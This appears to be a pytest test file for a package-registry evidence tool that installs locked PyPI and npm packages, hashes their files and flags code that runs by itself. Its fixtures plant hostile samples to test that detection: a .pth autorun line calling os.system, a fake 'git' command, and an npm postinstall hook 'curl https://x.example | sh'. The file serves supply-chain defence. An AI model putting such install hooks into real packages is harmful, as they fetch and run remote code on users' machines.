"""What an installed lock holds: files, and code that runs without being called."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from local_index import client_settings, local_index
from mcpreg.core.evidence import Artifacts, InstallScript, Missing
from mcpreg.core.lock import Lock
from mcpreg.core.manifest import Manifest
from mcpreg.evidence.artifacts import artifacts
from mcpreg.evidence.installed import UNCLAIMED, Installed, install
from packages_of_tests import Shop, locked, skip_without_node, skip_without_python


@pytest.fixture
def shop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Shop]:
    with local_index() as index:
        for name, value in client_settings(index, str(tmp_path)).items():
            monkeypatch.setenv(name, value)
        yield Shop(index)


def lock_of(manifest: Manifest, tmp_path: Path) -> Lock:
    work = tmp_path / "resolve"
    work.mkdir()
    return locked(manifest, work)


def gathered(lock: Lock, tmp_path: Path) -> Artifacts:
    folder = tmp_path / "tree"
    folder.mkdir()
    found = artifacts(install(lock, folder, lambda _: None))
    assert isinstance(found, Artifacts), found
    return found


def texts(found: Artifacts) -> list[tuple[str, str, str]]:
    return [(script.artifact, script.kind, script.text) for script in found.scripts]


def test_lists_every_file_with_its_digest_and_its_artifact(shop: Shop, tmp_path: Path) -> None:
    skip_without_python()
    shop.index.add_wheel("part", "2.0", files={"part.py": "x = 1\n"})
    found = gathered(lock_of(shop.wheel(requires=["part"]), tmp_path), tmp_path)
    assert found.own == "acme-clock@1.0.0"
    assert found.packages == ("acme-clock@1.0.0", "part@2.0")
    (part,) = [file for file in found.files if file.path == "part.py"]
    digest = "sha256:" + hashlib.sha256(b"x = 1\n").hexdigest()
    assert (part.artifact, part.size, part.sha256) == ("part@2.0", 6, digest)
    (own,) = [file for file in found.files if file.path == "acme_clock/__init__.py"]
    assert own.artifact == "acme-clock@1.0.0"
    assert found.scripts == ()
    assert found.problems == ()


def test_two_installs_of_one_lock_are_the_same_evidence(shop: Shop, tmp_path: Path) -> None:
    skip_without_python()
    lock = lock_of(shop.wheel(), tmp_path)
    one, other = tmp_path / "one", tmp_path / "other"
    one.mkdir()
    other.mkdir()
    assert gathered(lock, one) == gathered(lock, other)


def test_finds_lines_that_run_at_every_start_of_python(shop: Shop, tmp_path: Path) -> None:
    skip_without_python()
    files = {
        "acme.pth": "# quiet\n/some/path\nimport os; os.system('id')\n",
        "sitecustomize.py": "print('hello')\n",
    }
    found = gathered(lock_of(shop.wheel(files=files), tmp_path), tmp_path)
    assert texts(found) == [
        (found.own, "pth", "import os; os.system('id')"),
        (found.own, "start", "sitecustomize.py"),
    ]


def test_finds_commands_that_no_entry_point_made(shop: Shop, tmp_path: Path) -> None:
    skip_without_python()
    script = {"acme_clock-1.0.0.data/scripts/git": "#!python\nprint('not git')\n"}
    found = gathered(lock_of(shop.wheel(files=script), tmp_path), tmp_path)
    assert texts(found) == [(found.own, "command", "git")]


def test_a_file_that_no_record_lists_is_the_packages_own(shop: Shop, tmp_path: Path) -> None:
    skip_without_python()
    shop.index.add_wheel("part", "2.0", files={"part.py": "x = 1\n"})
    lock = lock_of(shop.wheel(requires=["part"]), tmp_path)
    folder = tmp_path / "tree"
    folder.mkdir()
    tree = install(lock, folder, lambda _: None)
    assert isinstance(tree, Installed)
    record = tree.root / "part-2.0.dist-info/RECORD"
    record.write_text("")  # as a hostile wheel would have it
    assert tree.owners["part.py"] == "part@2.0"
    assert "part.py" not in tree.own_files
    unlisted = Installed(tree.root, "pypi", tree.own, (), {"part.py": UNCLAIMED})
    assert unlisted.own_files == ("part.py",)


def test_says_when_a_dependency_replaces_a_file_of_the_package(shop: Shop, tmp_path: Path) -> None:
    skip_without_python()
    shop.index.add_wheel("part", "2.0", files={"acme_clock/server.py": "print('other')\n"})
    manifest = shop.wheel(requires=["part"])
    found = gathered(lock_of(manifest, tmp_path), tmp_path)
    assert found.problems == ("another artifact replaces acme_clock/server.py of acme-clock@1.0.0",)


def test_says_when_the_index_has_other_bytes_than_the_lock(shop: Shop, tmp_path: Path) -> None:
    skip_without_python()
    lock = lock_of(shop.wheel(), tmp_path)
    forged = [wheel.model_copy(update={"sha256": "0" * 64}) for wheel in lock.wheels]
    found = gathered(lock.model_copy(update={"wheels": tuple(forged)}), tmp_path)
    assert len(found.problems) == 1
    assert "acme-clock 1.0.0" in found.problems[0]
    assert found.files == ()


def test_says_when_an_artifact_does_not_exist(shop: Shop, tmp_path: Path) -> None:
    skip_without_python()
    lock = lock_of(shop.wheel(), tmp_path)
    shop.index.wheels.clear()
    found = gathered(lock, tmp_path)
    assert len(found.problems) == 1


def test_an_index_that_does_not_answer_is_nobodys_fault(
    shop: Shop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    skip_without_python()
    lock = lock_of(shop.wheel(), tmp_path)
    monkeypatch.setenv("UV_DEFAULT_INDEX", "http://127.0.0.1:9/simple")
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "empty-cache"))
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    folder = tmp_path / "tree"
    folder.mkdir()
    found = artifacts(install(lock, folder, lambda _: None))
    assert isinstance(found, Missing)
    assert found.ours


def test_finds_npm_scripts_of_the_package_and_of_its_dependencies(
    shop: Shop, tmp_path: Path
) -> None:
    skip_without_node()
    shop.index.add_npm("part", "2.0.0", scripts={"preinstall": "node a.js", "test": "x"})
    shop.index.add_npm("native", "1.0.0", files={"binding.gyp": "{}"})
    manifest = shop.npm(
        dependencies={"part": "2.0.0", "native": "1.0.0"},
        scripts={"postinstall": "curl https://x.example | sh", "prepare": "tsc"},
    )
    found = gathered(lock_of(manifest, tmp_path), tmp_path)
    assert texts(found) == [
        ("@acme/clock@1.0.0", "postinstall", "curl https://x.example | sh"),
        ("native@1.0.0", "install", "node-gyp rebuild"),
        ("part@2.0.0", "preinstall", "node a.js"),
    ]
    assert {file.artifact for file in found.files} == {
        "@acme/clock@1.0.0",
        "native@1.0.0",
        "part@2.0.0",
    }
    assert ("@acme/clock@1.0.0", "main.js") in {(f.artifact, f.path) for f in found.files}


def test_a_broken_package_json_is_no_script_and_no_crash(tmp_path: Path) -> None:
    place = tmp_path / "node_modules/part"
    place.mkdir(parents=True)
    (place / "package.json").write_bytes(b"[" * 100_000)
    owners = {"node_modules/part/package.json": "part@1.0.0"}
    found = artifacts(Installed(tmp_path, "npm", "part@1.0.0", ("part@1.0.0",), owners))
    assert isinstance(found, Artifacts)
    assert found.scripts == ()


def test_machine_code_is_known_by_its_first_bytes(tmp_path: Path) -> None:
    (tmp_path / "fast.txt").write_bytes(b"\x7fELF....")
    (tmp_path / "slow.so").write_bytes(b"#!/bin/sh\n")
    owners = dict.fromkeys(("fast.txt", "slow.so"), "part@1")
    found = artifacts(Installed(tmp_path, "pypi", "part@1", ("part@1",), owners))
    assert isinstance(found, Artifacts)
    assert {file.path: file.binary for file in found.files} == {"fast.txt": True, "slow.so": False}


def test_a_long_script_is_kept_short(tmp_path: Path) -> None:
    (tmp_path / "x.pth").write_text("import os;" + "x" * 100_000)
    found = artifacts(Installed(tmp_path, "pypi", "part@1", (), {"x.pth": "part@1"}))
    assert isinstance(found, Artifacts)
    (script,) = found.scripts
    assert isinstance(script, InstallScript)
    assert len(script.text) == 300
